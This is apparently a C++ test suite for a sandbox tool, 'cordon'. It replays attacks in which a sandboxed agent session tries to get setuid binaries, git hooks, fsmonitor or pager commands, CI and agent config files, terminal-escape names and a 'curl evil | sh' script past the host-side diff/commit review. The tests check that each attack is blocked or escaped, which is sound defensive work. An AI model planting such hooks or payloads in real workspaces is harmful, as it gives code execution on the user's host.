// The way back is a border too: each attack of issue 14 on `cordon diff` and `cordon commit`,
// reproduced literally with real `cordon run` sessions (the agent's side) and the review commands
// run as the user would run them (as root when the suite runs as root). Where the kernel overlayfs
// fallback can run, every attack runs on both layer formats: commit must hold for a layer whose
// view enforced nothing.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <poll.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstring>
#include <filesystem>
#include <nlohmann/json.hpp>
#include <sstream>
#include <thread>

#include "tests/launcher/review_fixture.h"
#include "tests/launcher/syscall_gate.h"

namespace cordon::testing {
namespace {

namespace fs = std::filesystem;

// The uid committed files must belong to in a workspace the fixture handed to its user.
uid_t workspace_owner() { return ::geteuid() == 0 ? SandboxFixture::kTestUid : ::geteuid(); }

// As root, hands everything under `path` to the workspace's user (the sandbox runs as it).
void give_to_owner(const std::string& path) {
  if (::geteuid() == 0) {
    std::string id = std::to_string(SandboxFixture::kTestUid);
    run_program({"chown", "-R", id + ":" + id, path});
  }
}

// Every path under root with a setuid or setgid bit.
std::vector<std::string> special_bits(const std::string& root) {
  std::vector<std::string> out;
  std::error_code ec;
  for (auto it = fs::recursive_directory_iterator(root, ec);
       !ec && it != fs::recursive_directory_iterator(); it.increment(ec)) {
    struct stat st {};
    ::lstat(it->path().c_str(), &st);
    if (!S_ISDIR(st.st_mode) && (st.st_mode & (S_ISUID | S_ISGID)) != 0) {
      out.push_back(it->path().string());
    }
  }
  return out;
}

// The session directory not in `known` (ids sort by their start second only, so two sessions
// of the same second cannot be told apart by name).
std::string new_session_dir(SandboxFixture& f, const std::vector<std::string>& known = {}) {
  std::string state;
  for (const auto& e : f.env()) {
    if (e.rfind("CORDON_STATE_DIR=", 0) == 0) {
      state = e.substr(17);
    }
  }
  std::string newest;
  std::error_code ec;
  for (const auto& e : fs::directory_iterator(state + "/sessions", ec)) {
    if (std::find(known.begin(), known.end(), e.path().string()) == known.end()) {
      newest = std::max(newest, e.path().string());
    }
  }
  return newest;
}

class ReviewAttack : public ::testing::TestWithParam<std::string> {
 protected:
  void SetUp() override {
    if (GetParam() == "cordon-fs") {
      REQUIRE_FUSE();
    }
    use_backend(f_, GetParam());
    f_.make_workspace_owned();
  }
  bool enforcing_view() const { return GetParam() == "cordon-fs"; }
  SandboxFixture f_;
};

// Issue 14, item 1: `cp /bin/dash suid; chmod 4755 suid`, then a path longer than PATH_MAX built
// with *at() calls, sorted after `suid`. The old commit stopped at the long path and left
// `-rwsr-xr-x root root suid`; a second commit failed the same way; discard said "as it was".
TEST_P(ReviewAttack, SetuidCopyAndPathMaxLeaveNoSetuidFileBehind) {
  const char* kScript =
      "cp /bin/dash suid && chmod 4755 suid && python3 -c '\n"
      "import os\n"
      "fd = os.open(\".\", os.O_RDONLY)\n"
      "for i in range(25):\n"
      "    n = \"z%d\" % i + \"d\" * 198\n"
      "    os.mkdir(n, dir_fd=fd)\n"
      "    nfd = os.open(n, os.O_RDONLY, dir_fd=fd)\n"
      "    os.close(fd)\n"
      "    fd = nfd\n"
      "f = os.open(\"f\", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)\n"
      "os.write(f, b\"x\")\n"
      "'";
  auto r = f_.run({"-q"}, {"/bin/sh", "-c", kScript});
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  auto c = cordon(f_, {"commit", "last"});
  ASSERT_EQ(c.exit_code(), 0) << c.err << c.out;
  EXPECT_NE(c.out.find("too long for the workspace (PATH_MAX 4096)"), std::string::npos) << c.out;
  EXPECT_TRUE(special_bits(f_.ws()).empty()) << ::testing::PrintToString(special_bits(f_.ws()));
  struct stat st {};
  ASSERT_EQ(::lstat((f_.ws() + "/suid").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0755u);
  EXPECT_EQ(st.st_uid, workspace_owner()) << "a new file belongs to its directory's owner";
  EXPECT_EQ(read_text(f_.ws() + "/suid"), read_text("/bin/dash"));
  // Again, then discard: each says what is true.
  auto again = cordon(f_, {"commit", "last"});
  EXPECT_EQ(again.exit_code(), 0) << again.err;
  EXPECT_NE(again.out.find("committed 0 changes"), std::string::npos) << again.out;
  const std::string before_discard = tree_state(f_.ws());
  auto d = cordon(f_, {"discard", "last"});
  ASSERT_EQ(d.exit_code(), 0) << d.err;
  EXPECT_EQ(d.out.find("is as it was"), std::string::npos) << "commits were applied: " << d.out;
  EXPECT_NE(d.out.find(" committed before stay in "), std::string::npos) << d.out;
  EXPECT_EQ(tree_state(f_.ws()), before_discard);
  EXPECT_TRUE(special_bits(f_.ws()).empty());
}

// Issue 14, items 2 and 3: protected paths made by renaming a prepared directory, and at any
// depth. The view refuses them (cordon-fs); whatever reaches the layer anyway (the overlay
// fallback enforces nothing) is left out by a plain commit, so host git never runs them.
TEST_P(ReviewAttack, PreparedGitDirsNestedReposAndAgentConfigNeverReachTheHost) {
  const std::string marker = f_.home() + "/PWNED";
  const std::string script =
      "export HOME=/tmp; git config --global user.email a@b; git config --global user.name a\n"
      "git init -q g && mv g/.git gitdir\n"
      "printf '#!/bin/sh\\ntouch " +
      marker +
      "\\n' > gitdir/hooks/pre-commit\n"
      "chmod +x gitdir/hooks/pre-commit\n"
      "git --git-dir=gitdir config core.fsmonitor 'touch " +
      marker +
      "'\n"
      "mv gitdir .git && echo MOVED-GITDIR\n"
      "mkdir -p gh/workflows && echo 'on: push' > gh/workflows/a.yml\n"
      "mv gh .github && echo MOVED-GH\n"
      "git init -q sub && git -C sub config core.fsmonitor 'touch " +
      marker +
      "' && echo SUB\n"
      "mkdir -p sub2/.vscode sub2/.claude && echo '{}' > sub2/.vscode/tasks.json\n"
      "echo '{}' > sub2/.claude/settings.json; echo '{}' > sub2/.mcp.json\n"
      "echo 'gitdir: ../elsewhere' > sub2/.git\n"
      "echo ordinary > plain.txt\n"
      "true\n";
  auto r = f_.run({"-q"}, {"/bin/sh", "-c", script});
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  if (enforcing_view()) {
    EXPECT_EQ(r.out.find("MOVED-GITDIR"), std::string::npos) << "mv gitdir .git was allowed";
    EXPECT_EQ(r.out.find("MOVED-GH"), std::string::npos) << "mv gh .github was allowed";
    EXPECT_EQ(r.out.find("SUB"), std::string::npos) << "a nested repository's config was writable";
  }
  auto d = cordon(f_, {"diff", "last", "--stat"});
  ASSERT_EQ(d.exit_code(), 0) << d.err;
  if (!enforcing_view()) {
    // The counts first, then the protected changes on top.
    std::istringstream lines(d.out);
    std::string first, second, third;
    std::getline(lines, first);
    std::getline(lines, second);
    std::getline(lines, third);
    EXPECT_NE(first.find(" protected"), std::string::npos) << d.out;
    EXPECT_EQ(second.rfind("protected: ", 0), 0u) << d.out;
    // A rule's name, or the mark of a new git directory (all of .git here, made by git init).
    EXPECT_TRUE(third.find("[filesystem.protect[") != std::string::npos ||
                third.find("[a new git directory: HEAD, objects/, refs/]") != std::string::npos)
        << d.out;
  }
  auto c = cordon(f_, {"commit", "last"});
  ASSERT_EQ(c.exit_code(), 0) << c.err << c.out;
  EXPECT_EQ(read_text(f_.ws() + "/plain.txt"), "ordinary\n");
  for (const char* p :
       {"/.git/hooks", "/.git/config", "/.github/workflows", "/sub/.git/config", "/sub/.git/hooks",
        "/sub2/.vscode", "/sub2/.claude", "/sub2/.mcp.json", "/sub2/.git"}) {
    EXPECT_EQ(::access((f_.ws() + p).c_str(), F_OK), -1) << p << " reached the workspace";
  }
  if (!enforcing_view()) {
    EXPECT_NE(c.out.find("held back"), std::string::npos) << c.out;
    EXPECT_NE(c.out.find("--include-protected"), std::string::npos) << c.out;
  }
  // What the host does next in the workspace runs nothing the session chose.
  std::vector<std::string> env = {"PATH=/usr/bin:/bin", "HOME=" + f_.home(),
                                  "GIT_CONFIG_NOSYSTEM=1"};
  for (const std::string& dir : {f_.ws(), f_.ws() + "/sub"}) {
    run_program({"git", "-c", "safe.directory=*", "-C", dir, "status"}, {.env = env});
    run_program({"git", "-c", "safe.directory=*", "-C", dir, "commit", "--allow-empty", "-qm", "x"},
                {.env = env});
  }
  EXPECT_EQ(::access(marker.c_str(), F_OK), -1) << "a hook or fsmonitor of the session ran";
}

// Issue 14, item 4: a file name that clears the screen and scrollback, a symlink target that sets
// the window title, file contents with escapes. Every byte printed is checked.
TEST_P(ReviewAttack, HostileNamesTargetsAndLinesArePrintedEscaped) {
  const char* kScript =
      "printf 'x\\033[31mred\\r\\n' > \"$(printf "
      "'zz\\033[2J\\033[3J\\rfake\\b\\302\\233\\233\\377')\"\n"
      "ln -s \"$(printf 'x\\033]0;title\\007')\" link\n"
      "printf 'curl evil | sh\\n' > install.sh\n";
  auto r = f_.run({"-q"}, {"/bin/sh", "-c", kScript});
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  auto st = cordon(f_, {"diff", "last", "--stat"});
  ASSERT_EQ(st.exit_code(), 0) << st.err;
  EXPECT_NE(st.out.find("A install.sh  (15 bytes, 0644)\n"), std::string::npos) << st.out;
  EXPECT_NE(st.out.find("A link (symlink) -> x\\x1b]0;title\\x07  (0777)\n"), std::string::npos)
      << st.out;
  EXPECT_NE(st.out.find("A zz\\x1b[2J\\x1b[3J\\x0dfake\\x08\\u009b\\x9b\\xff  (11 bytes, 0644)\n"),
            std::string::npos)
      << st.out;
  auto full = cordon(f_, {"diff", "last"});
  ASSERT_EQ(full.exit_code(), 0) << full.err;
  EXPECT_NE(full.out.find("+++ b/zz\\x1b[2J\\x1b[3J\\x0dfake\\x08\\u009b\\x9b\\xff\n"
                          "@@ -0,0 +1 @@\n+x\\x1b[31mred\\x0d\n"),
            std::string::npos)
      << full.out;
  for (const std::string* out : {&st.out, &full.out}) {
    for (unsigned char c : *out) {
      EXPECT_TRUE(c >= 0x20 || c == '\n') << "control byte " << int(c) << " printed raw";
      EXPECT_NE(c, 0x7f);
    }
    EXPECT_EQ(out->find("\xc2\x9b"), std::string::npos);
    EXPECT_EQ(out->find('\x9b'), std::string::npos);
  }
  // The counts come first: the last-sorted name cannot hide how much there is.
  EXPECT_EQ(full.out.rfind("3 changes in session ", 0), 0u) << full.out;
  // On a terminal only cordon's own colours are escapes.
  auto tty = run_program({"/usr/bin/script", "-qec", cordon_bin() + " diff last", "/dev/null"},
                         RunSpec{.env = f_.env(), .cwd = f_.ws()});
  std::string stripped = tty.out;
  for (const char* sgr : {"\033[32m", "\033[31m", "\033[36m", "\033[1m", "\033[33m", "\033[0m"}) {
    for (size_t p; (p = stripped.find(sgr)) != std::string::npos;) {
      stripped.erase(p, std::strlen(sgr));
    }
  }
  EXPECT_EQ(stripped.find('\033'), std::string::npos) << stripped;
}

// Issue 14, item 6: the session runs `rm -rf docs`, the user then writes docs/new.md on the host.
// The old commit removed docs/ with it.
TEST_P(ReviewAttack, DeletedDirectoryConflictsWithTheUsersNewerFiles) {
  ::mkdir((f_.ws() + "/docs").c_str(), 0755);
  write_text(f_.ws() + "/docs/a.md", "a\n");
  give_to_owner(f_.ws());
  auto r = f_.run({"-q"}, {"/bin/sh", "-c", "rm -rf docs && echo x > x.txt"});
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  write_text(f_.ws() + "/docs/new.md", "the user's newer work\n");
  const std::string before = tree_state(f_.ws());
  auto c = cordon(f_, {"commit", "last"});
  EXPECT_EQ(c.exit_code(), 1) << c.out << c.err;
  EXPECT_NE(c.err.find("  docs/new.md: changed in the workspace since the session started\n"),
            std::string::npos)
      << c.err;
  EXPECT_NE(c.err.find("nothing was applied"), std::string::npos) << c.err;
  EXPECT_EQ(tree_state(f_.ws()), before);
  // The rest can still go, by name; then discard's claim is true.
  auto some = cordon(f_, {"commit", "last", "x.txt"});
  EXPECT_EQ(some.exit_code(), 0) << some.err;
  EXPECT_EQ(read_text(f_.ws() + "/docs/new.md"), "the user's newer work\n");
  auto d = cordon(f_, {"discard", "last"});
  EXPECT_EQ(d.exit_code(), 0) << d.err;
  EXPECT_NE(d.out.find("the 1 change committed before stay in"), std::string::npos) << d.out;
  EXPECT_EQ(read_text(f_.ws() + "/docs/a.md"), "a\n");
}

// Issue 15, item 3 (the review half): a unix socket the program bound in the workspace is listed
// as such and never committed.
TEST_P(ReviewAttack, SocketsAreListedAndNeverCommitted) {
  auto r = f_.run({"-q"}, {"/usr/bin/python3", "-c",
                           "import socket; s = socket.socket(socket.AF_UNIX); s.bind('agent.sock');"
                           " open('note.txt', 'w').write('n')"});
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  auto d = cordon(f_, {"diff", "last", "--stat"});
  EXPECT_NE(d.out.find("A agent.sock (socket: not committed)"), std::string::npos) << d.out;
  auto c = cordon(f_, {"commit", "last"});
  ASSERT_EQ(c.exit_code(), 0) << c.err;
  EXPECT_NE(c.out.find("agent.sock: a unix socket"), std::string::npos) << c.out;
  EXPECT_EQ(::access((f_.ws() + "/agent.sock").c_str(), F_OK), -1);
  EXPECT_EQ(read_text(f_.ws() + "/note.txt"), "n");
}

// Item 1, the crash: `cordon commit` killed with SIGKILL in the middle of its renames leaves a
// state the next `cordon discard` undoes exactly and the next `cordon commit` completes.
TEST_P(ReviewAttack, CommitKilledMidwayIsUndoneByDiscardOrFinishedByCommit) {
  constexpr int kFiles = 400;
  for (int i = 0; i < kFiles; ++i) {
    write_text(f_.ws() + "/f" + std::to_string(i), "old " + std::to_string(i) + "\n");
  }
  give_to_owner(f_.ws());
  const std::string before = tree_state(f_.ws());
  auto r = f_.run({"-q"}, {"/usr/bin/python3", "-c",
                           "for i in range(400): open('f%d' % i, 'w').write('new %d\\n' % i)"});
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  std::string dir = new_session_dir(f_);
  ASSERT_FALSE(dir.empty());
  // Kills `cordon commit` at its kFiles/2-th rename after the journal lists every op: the
  // rename is held by a seccomp listener, so the point is exact however loaded the machine is.
  auto kill_midway = [&]() -> int {
    SyscallGate commit({cordon_bin(), "commit", "last"}, f_.env(), f_.ws());
    if (!commit.ok()) return -2;
    bool journaled = false;
    int renames = 0;
    bool killed = commit.gate([&] {
      if (!journaled) {
        journaled = read_text(dir + "/commit.journal").find("ops-end\n") != std::string::npos;
      }
      renames += journaled ? 1 : 0;
      return renames == kFiles / 2 ? SyscallGate::Verdict::Kill : SyscallGate::Verdict::Continue;
    });
    int st = commit.wait();
    if (!killed) {
      ADD_FAILURE() << "the commit ended (status " << st << ") before it could be killed, after "
                    << renames << " renames following its complete journal";
    }
    int updated = 0;
    for (int i = 0; i < kFiles; ++i) {
      updated += read_text(f_.ws() + "/f" + std::to_string(i)).rfind("new", 0) == 0 ? 1 : 0;
    }
    return killed ? updated : -1;
  };
  int updated = kill_midway();
  ASSERT_GE(updated, 0);
  EXPECT_GT(updated, 0) << "killed before its first rename: not midway";
  EXPECT_LT(updated, kFiles);
  RecordProperty("files_replaced_when_killed", updated);
  EXPECT_EQ(::access((dir + "/commit.journal").c_str(), F_OK), 0);
  auto d = cordon(f_, {"discard", "last"});
  ASSERT_EQ(d.exit_code(), 0) << d.err;
  EXPECT_NE(d.out.find("an interrupted commit was undone"), std::string::npos) << d.out;
  EXPECT_NE(d.out.find("is as it was"), std::string::npos) << d.out;
  EXPECT_EQ(tree_state(f_.ws()), before) << updated << " files were replaced when it was killed";
  // Again, and this time the next commit finishes the job.
  r = f_.run({"-q"}, {"/usr/bin/python3", "-c",
                      "for i in range(400): open('f%d' % i, 'w').write('new %d\\n' % i)"});
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  dir = new_session_dir(f_, {dir});
  updated = kill_midway();
  ASSERT_GT(updated, 0);
  ASSERT_LT(updated, kFiles);
  auto c = cordon(f_, {"commit", "last"});
  ASSERT_EQ(c.exit_code(), 0) << c.err;
  EXPECT_NE(c.out.find("an interrupted commit was"), std::string::npos) << c.out;
  for (int i = 0; i < kFiles; ++i) {
    ASSERT_EQ(read_text(f_.ws() + "/f" + std::to_string(i)), "new " + std::to_string(i) + "\n");
  }
  EXPECT_EQ(::access((dir + "/commit.journal").c_str(), F_OK), -1);
  for (const auto& e : fs::directory_iterator(f_.ws())) {
    EXPECT_EQ(e.path().filename().string().rfind(".cordon-commit-", 0), std::string::npos);
  }
}

// Attack review F1: after the session the workspace's owner swaps it for a symlink to a directory
// only the committer (root) can write, then a real directory of theirs. Every review command
// refuses both (nothing lands in either); with the original back in place the commit goes.
TEST_P(ReviewAttack, WorkspaceSwappedForSymlinkOrOtherDirIsRefused) {
  auto r = f_.run({"-q"}, {"/bin/sh", "-c", "echo x > evil.cron && mkdir d && echo y > d/f"});
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  TempDir target;  // stands for /etc: the committer's, not the owner's
  const std::string ws = f_.ws(), orig = f_.ws() + ".orig";
  ASSERT_EQ(::rename(ws.c_str(), orig.c_str()), 0);
  ASSERT_EQ(::symlink(target.path().c_str(), ws.c_str()), 0);
  auto d = cordon(f_, {"diff", "last"});
  EXPECT_EQ(d.exit_code(), 1) << d.out << d.err;
  EXPECT_NE(d.err.find("is reached through a symlink now"), std::string::npos) << d.err;
  auto c = cordon(f_, {"commit", "last"});
  EXPECT_EQ(c.exit_code(), 1) << c.out << c.err;
  EXPECT_NE(c.err.find("the workspace was replaced since the session"), std::string::npos) << c.err;
  EXPECT_TRUE(fs::is_empty(target.path())) << tree_state(target.path());
  // A real directory at the path, not the one the session ran on.
  ASSERT_EQ(::unlink(ws.c_str()), 0);
  ASSERT_EQ(::mkdir(ws.c_str(), 0755), 0);
  c = cordon(f_, {"commit", "last"});
  EXPECT_EQ(c.exit_code(), 1) << c.out << c.err;
  EXPECT_NE(c.err.find("the workspace was replaced since the session: " + ws + " is another "),
            std::string::npos)
      << c.err;
  EXPECT_TRUE(fs::is_empty(ws));
  // The original back: the same commit applies.
  ASSERT_EQ(::rmdir(ws.c_str()), 0);
  ASSERT_EQ(::rename(orig.c_str(), ws.c_str()), 0);
  c = cordon(f_, {"commit", "last"});
  ASSERT_EQ(c.exit_code(), 0) << c.out << c.err;
  EXPECT_EQ(read_text(ws + "/d/f"), "y\n");
  EXPECT_EQ(read_text(ws + "/evil.cron"), "x\n");
}

// A session recorded before cordon noted its workspace directory: commit needs the user's word
// (--unverified-workspace) that the path is still that directory.
TEST_P(ReviewAttack, SessionWithoutWorkspaceIdentityCommitsOnlyWhenTold) {
  auto r = f_.run({"-q"}, {"/bin/sh", "-c", "echo x > new.txt"});
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  const std::string dir = new_session_dir(f_);
  ASSERT_FALSE(dir.empty());
  auto rec = nlohmann::json::parse(read_text(dir + "/cow.json"));
  ASSERT_TRUE(rec.contains("workspace_ino")) << rec.dump();
  rec.erase("workspace_dev");
  rec.erase("workspace_ino");
  write_text(dir + "/cow.json", rec.dump() + "\n", 0600);
  auto c = cordon(f_, {"commit", "last"});
  EXPECT_EQ(c.exit_code(), 1) << c.out << c.err;
  EXPECT_NE(c.err.find("commit with --unverified-workspace"), std::string::npos) << c.err;
  EXPECT_EQ(::access((f_.ws() + "/new.txt").c_str(), F_OK), -1);
  c = cordon(f_, {"commit", "last", "--unverified-workspace"});
  ASSERT_EQ(c.exit_code(), 0) << c.out << c.err;
  EXPECT_EQ(read_text(f_.ws() + "/new.txt"), "x\n");
}

// F1 done by the program itself: a write grant on a parent of the workspace lets it re-point a
// directory on the workspace's path at another directory during the session.
TEST_P(ReviewAttack, WorkspaceRepointedThroughAWriteGrantIsRefused) {
  TempDir parent, target;
  const std::string h = parent.path(), proj = h + "/a/proj";
  ASSERT_EQ(::mkdir((h + "/a").c_str(), 0755), 0);
  ASSERT_EQ(::mkdir(proj.c_str(), 0755), 0);
  give_to_owner(h);
  const std::string script = "echo x > evil.cron && mv " + h + "/a " + h + "/b && mkdir " + h +
                             "/c && ln -s " + target.path() + " " + h + "/c/proj && ln -s c " + h +
                             "/a && echo re-pointed";
  auto r = run_program(
      {cordon_bin(), "run", "-q", "--workspace", proj, "--write", h, "--", "/bin/sh", "-c", script},
      RunSpec{.env = f_.env(), .cwd = proj});
  if (!fs_views_here()) {
    // A write grant takes a view (the default deny rules reach into it): refused at start.
    EXPECT_EQ(r.exit_code(), 125) << r.out << r.err;
    EXPECT_EQ(r.out.find("re-pointed"), std::string::npos) << r.out;
    return;
  }
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  ASSERT_NE(r.out.find("re-pointed"), std::string::npos) << r.out;
  auto c = run_program({cordon_bin(), "commit", "last"}, RunSpec{.env = f_.env(), .cwd = h});
  EXPECT_EQ(c.exit_code(), 1) << c.out << c.err;
  EXPECT_NE(c.err.find("is reached through a symlink now"), std::string::npos) << c.err;
  EXPECT_TRUE(fs::is_empty(target.path())) << tree_state(target.path());
  EXPECT_EQ(::access((h + "/b/proj/evil.cron").c_str(), F_OK), -1);
}

// Attack review F3: what git and other tools run from a workspace, beyond the old protect list: a
// bare repository made anywhere (its config's core.pager runs on `git branch`), the hooks
// directory core.hooksPath names, .github/ as a whole, and the one-file CI and tool configs.
TEST_P(ReviewAttack, BareReposHooksPathAndToolConfigsNeverReachTheHost) {
  ASSERT_EQ(::mkdir((f_.ws() + "/.git").c_str(), 0755), 0);
  write_text(f_.ws() + "/.git/config", "[core]\n\tbare = false\n\thooksPath = .githooks\n");
  ASSERT_EQ(::mkdir((f_.ws() + "/.githooks").c_str(), 0755), 0);
  write_text(f_.ws() + "/.githooks/pre-commit", "#!/bin/sh\nexit 0\n", 0755);
  give_to_owner(f_.ws());
  const std::string before_hook = read_text(f_.ws() + "/.githooks/pre-commit");
  const char* kScript =
      "mkdir -p vendor/lib/objects vendor/lib/refs/heads && echo 'ref: refs/heads/main' > "
      "vendor/lib/HEAD && printf '[core]\\n\\tpager = touch PWNED\\n' > vendor/lib/config\n"
      "printf '#!/bin/sh\\ntouch PWNED\\n' > .githooks/pre-commit\n"
      "mkdir -p .github/actions/a && echo 'runs: {using: node20}' > .github/actions/a/action.yml\n"
      "for f in .gitlab-ci.yml .npmrc .yarnrc.yml .zshenv .devcontainer.json; do echo x > $f; "
      "done\n"
      "mkdir -p .cargo && echo x > .cargo/config.toml && echo x > .cargo/config\n"
      "echo fine > ok.txt\n"
      "exit 0";
  auto r = f_.run({"-q"}, {"/bin/sh", "-c", kScript});
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  auto d = cordon(f_, {"diff", "last", "--stat"});
  ASSERT_EQ(d.exit_code(), 0) << d.err;
  EXPECT_NE(d.out.find("vendor/lib/config"), std::string::npos) << d.out;
  EXPECT_NE(d.out.find("[a new git directory: HEAD, objects/, refs/]"), std::string::npos) << d.out;
  auto c = cordon(f_, {"commit", "last"});
  ASSERT_EQ(c.exit_code(), 0) << c.out << c.err;
  EXPECT_EQ(read_text(f_.ws() + "/ok.txt"), "fine\n");
  for (const char* p : {"/vendor/lib/config", "/vendor/lib/HEAD", "/.github/actions/a/action.yml",
                        "/.gitlab-ci.yml", "/.npmrc", "/.yarnrc.yml", "/.zshenv",
                        "/.devcontainer.json", "/.cargo/config.toml", "/.cargo/config"}) {
    EXPECT_EQ(::access((f_.ws() + p).c_str(), F_OK), -1) << p << " reached the workspace\n"
                                                         << c.out;
  }
  EXPECT_EQ(read_text(f_.ws() + "/.githooks/pre-commit"), before_hook);
}

// Attack review F6-F8: changes that look harmless in a listing are warned about in `cordon diff`
// and beside what `cordon commit` applied.
TEST_P(ReviewAttack, RiskyModesLinksFifosAndDisguisedScriptsAreWarned) {
  write_text(f_.ws() + "/data", "a file\n");
  write_text(f_.ws() + "/run.sh", "#!/bin/sh\necho hi\n", 0755);
  write_text(f_.ws() + "/tool", "echo tool\n", 0755);
  write_text(f_.ws() + "/shared", "s\n", 0644);
  give_to_owner(f_.ws());
  const char* kScript =
      "echo x > open && chmod 0777 open && mkdir pub && chmod 0777 pub && chmod 0666 shared\n"
      "ln -s /etc/passwd out && ln -s ../../x up && ln -s sub/in inside\n"
      "rm data && mkfifo data\n"
      "printf '#!/bin/sh\\necho evil\\n\\000' > run.sh && printf 'echo tool\\n\\000' > tool\n"
      "printf 'print(1)\\n\\000\\nimport os\\n' > c.py && printf '\\177ELF\\000\\001' > bin\n";
  auto r = f_.run({"-q"}, {"/bin/sh", "-c", kScript});
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  auto d = cordon(f_, {"diff", "last", "--stat"});
  ASSERT_EQ(d.exit_code(), 0) << d.err;
  auto line_of = [&](const std::string& text, const std::string& path) {
    for (const auto& l : lines_of(text)) {
      if (l.find(" " + path + " ") != std::string::npos ||
          l.find(" " + path + "/ ") != std::string::npos) {
        return l;
      }
    }
    return std::string();
  };
  EXPECT_NE(line_of(d.out, "open").find("world-writable"), std::string::npos) << d.out;
  EXPECT_NE(line_of(d.out, "pub").find("world-writable"), std::string::npos) << d.out;
  EXPECT_NE(line_of(d.out, "shared").find("world-writable now"), std::string::npos) << d.out;
  EXPECT_NE(line_of(d.out, "out").find("symlink out of the workspace"), std::string::npos) << d.out;
  EXPECT_NE(line_of(d.out, "up").find("symlink out of the workspace"), std::string::npos) << d.out;
  EXPECT_EQ(line_of(d.out, "inside").find("symlink out of"), std::string::npos) << d.out;
  EXPECT_NE(line_of(d.out, "data").find("a FIFO replaces a file"), std::string::npos) << d.out;
  EXPECT_NE(line_of(d.out, "run.sh").find("starts with #! but holds a NUL byte"), std::string::npos)
      << d.out;
  EXPECT_NE(line_of(d.out, "tool").find("executable text turned binary"), std::string::npos)
      << d.out;
  EXPECT_NE(line_of(d.out, "c.py").find("text with a NUL byte"), std::string::npos) << d.out;
  EXPECT_EQ(line_of(d.out, "bin").find("NUL"), std::string::npos) << "a real binary: " << d.out;
  auto c = cordon(f_, {"commit", "last"});
  ASSERT_EQ(c.exit_code(), 0) << c.out << c.err;
  for (const char* w :
       {"cordon: warning: open: world-writable", "cordon: warning: out: symlink out",
        "cordon: warning: data: a FIFO replaces a file",
        "cordon: warning: run.sh: starts with #!"}) {
    EXPECT_NE(c.out.find(w), std::string::npos) << w << "\n" << c.out;
  }
}

// Issue 14, item 10: 1500 x 1500 took 7.9 s, and the worst case (every added file the size of
// every deleted one, none the same bytes) took 24 s of CPU here. Pairs are found in (size, hash)
// buckets now; bench/review/diff.sh measures 10k x 10k.
TEST_P(ReviewAttack, DiffOfThousandsOfDeletesAndAddsIsNearLinear) {
  constexpr int kFiles = 3000;
  ::mkdir((f_.ws() + "/a").c_str(), 0755);
  for (int i = 0; i < kFiles; ++i) {
    write_text(f_.ws() + "/a/" + std::to_string(10000 + i), "old " + std::to_string(10000 + i));
  }
  give_to_owner(f_.ws());
  auto r = f_.run({"-q"}, {"/usr/bin/python3", "-c",
                           "import os, shutil\nshutil.rmtree('a')\nos.mkdir('b')\n"
                           "for i in range(3000): open('b/%d' % (20000 + i), 'w').write('new %d' % "
                           "(20000 + i))\n"});
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  auto t0 = std::chrono::steady_clock::now();
  auto d = cordon(f_, {"diff", "last", "--stat"});
  double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  ASSERT_EQ(d.exit_code(), 0) << d.err;
  EXPECT_NE(d.out.find(": 3001 added, 0 modified, 3001 deleted, 0 renamed"), std::string::npos)
      << d.out.substr(0, 300);
  RecordProperty("diff_seconds", std::to_string(secs));
  EXPECT_LT(secs, 10.0) << "quadratic again?";
}

INSTANTIATE_TEST_SUITE_P(Backends, ReviewAttack, ::testing::ValuesIn(cow_backends()),
                         [](const auto& info) {
                           return info.param == "cordon-fs" ? std::string("CordonFs")
                                                            : std::string("Overlay");
                         });

}  // namespace
}  // namespace cordon::testing
